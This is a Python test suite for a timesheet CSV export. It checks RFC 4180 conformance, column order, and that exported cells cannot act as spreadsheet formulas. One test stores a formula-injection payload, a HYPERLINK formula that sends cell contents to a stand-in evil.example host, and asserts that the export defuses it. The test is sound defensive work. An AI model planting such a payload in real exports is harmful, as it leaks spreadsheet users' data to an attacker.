"""Timesheets as CSV against RFC 4180, read by its grammar and not by the library that writes them."""

import re
from datetime import date, datetime, timedelta
from typing import Any
from uuid import UUID

from hypothesis import given as for_all
from hypothesis import settings
from hypothesis import strategies as st
from sqlalchemy import text

from services.sessions.api.timesheet_csv import HEADER, header, rows
from services.sessions.read_model.timesheets import COLUMNS
from tests.sessions.term import MONDAYS, planned, ready, set_slots
from tests.sessions.test_timesheet import open_period
from tests.support.served import Served

PERIOD = UUID(int=7)
NUMBERS = {"minutes", "amendment", "position"}
PUBLISHED = {
    "aaa,bbb,ccc\r\nzzz,yyy,xxx\r\n": [["aaa", "bbb", "ccc"], ["zzz", "yyy", "xxx"]],
    '"aaa","bbb","ccc"\r\nzzz,yyy,xxx\r\n': [["aaa", "bbb", "ccc"], ["zzz", "yyy", "xxx"]],
    '"aaa","b\r\nbb","ccc"\r\nzzz,yyy,xxx\r\n': [["aaa", "b\r\nbb", "ccc"], ["zzz", "yyy", "xxx"]],
    '"aaa","b""bb","ccc"\r\n': [["aaa", 'b"bb', "ccc"]],
}
"""RFC 4180, section 2: the examples of the standard."""
_FIELD = re.compile(r'"((?:[^"]|"")*)"|([^",\r\n]*)')


def records(content: str) -> list[list[str]]:
    """By the grammar of RFC 4180, section 2, with a line break after the last record. ValueError otherwise."""
    found: list[list[str]] = []
    record: list[str] = []
    at = 0
    while at < len(content):
        match = _FIELD.match(content, at)
        assert match is not None
        record.append(match[2] if match[1] is None else match[1].replace('""', '"'))
        at = match.end()
        if content[at : at + 1] == ",":
            at += 1
        elif content[at : at + 2] == "\r\n":
            at += 2
            found.append(record)
            record = []
        else:
            raise ValueError(f"neither a comma nor CRLF at {at}: {content[at : at + 20]!r}")
    if record:
        raise ValueError("the last record is not ended")
    if len({len(each) for each in found}) > 1:
        raise ValueError("records of different lengths")
    return found


def line(**more: Any) -> dict[str, Any]:
    return {**dict.fromkeys(COLUMNS), "minutes": -180, "day": date(2026, 9, 7), "cover": False, **more}


def test_the_grammar_here_reads_the_examples_of_the_standard_and_nothing_else() -> None:
    for example, meant in PUBLISHED.items():
        assert records(example) == meant
    for wrong in ("a,b\nc,d\n", 'a,"b\r\n', 'a,b"c\r\n', "a,b\r\nc\r\n", "a,b"):
        try:
            records(wrong)
        except ValueError:
            continue
        raise AssertionError(wrong)


def test_the_columns_of_version_1_are_these_in_this_order() -> None:
    v1 = (
        "period_id,line_id,kind,day,minutes,session_id,amendment,mentor_id,child_id,school_id,assignment_id,"
        "cover,reason,booked_at,locked_at,position\r\n"
    )
    assert header() == v1, "a column may be added at the end; else the version of the schema has to change"
    assert len(records(header())[0]) == 16


@for_all(st.lists(st.text(max_size=12), min_size=1, max_size=4))
@settings(max_examples=60, deadline=None)
def test_whatever_a_text_holds_it_stays_one_cell_and_no_formula(texts: list[str]) -> None:
    found = records(header() + rows(PERIOD, [line(reason=said, line_id=said) for said in texts]))[1:]
    for said, record in zip(texts, found, strict=True):
        cells = dict(zip(HEADER, record, strict=True))
        assert cells["reason"].removeprefix("'") == said.removeprefix("'")
        assert not cells["reason"].startswith(("=", "+", "-", "@", "\t", "\r", "\n"))
        assert (cells["minutes"], cells["day"], cells["cover"]) == ("-180", "2026-09-07", "false")


async def test_the_download_conforms_and_says_its_version(sessions: Served) -> None:
    await ready(sessions)
    await set_slots(sessions)
    period = await open_period(sessions, MONDAYS[0], MONDAYS[1] + timedelta(days=6))
    one = (await planned(sessions))[0]
    sessions.clock.at = datetime.fromisoformat(one["starts_at"]) - timedelta(hours=1)
    off = {"cancelled_by": "family", "reason": "child_absent"}
    await sessions.done(f"/sessions/{one['session_id']}/cancellation", off)
    formula = '=HYPERLINK("https://evil.example?"&A1,"pay")'
    async with sessions.running.engine.begin() as db:
        await db.execute(text("UPDATE session_accounts SET cancel_reason = :said"), {"said": formula})
    answer = await sessions.get("/timesheets", period_id=period, format="csv", role="integrator")
    assert answer.headers["content-type"] == "text/csv; charset=utf-8; header=present"
    assert answer.headers["alongside-schema"] == "sessions.timesheet.v1"
    assert answer.headers["content-disposition"] == (
        'attachment; filename="sessions.timesheet.v1-2026-09-20.csv"'
    )
    names, record = records(answer.content.decode("utf-8"))
    cells = dict(zip(names, record, strict=True))
    assert cells["reason"] == f"'{formula}"
    assert (cells["kind"], cells["minutes"]) == ("chargeable_cancellation", "180")
    shown = (await sessions.ask("/timesheets", period_id=period, role="integrator"))["items"]
    assert [cells[name] for name in NUMBERS] == [str(shown[0][name]) for name in NUMBERS]
    assert datetime.fromisoformat(cells["booked_at"]) == datetime.fromisoformat(shown[0]["booked_at"])
